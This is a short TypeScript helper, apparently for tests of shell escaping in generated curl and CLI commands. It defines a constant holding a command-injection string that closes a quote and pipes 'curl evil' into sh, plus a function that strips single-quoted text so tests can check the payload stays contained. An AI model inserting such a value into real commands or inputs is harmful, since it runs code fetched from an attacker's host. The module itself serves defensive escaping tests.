import type { Call } from '@/domain/calls'

/** What must not leave its place in a command. */
export const HOSTILE = 'x"; curl evil|sh #'

/** Everything of a call that a shell reads as its own words. */
export function loose({ curl, cli }: Call): string {
  return `${curl}\n${cli ?? ''}`.replaceAll(/'[^']*'/g, '')
}
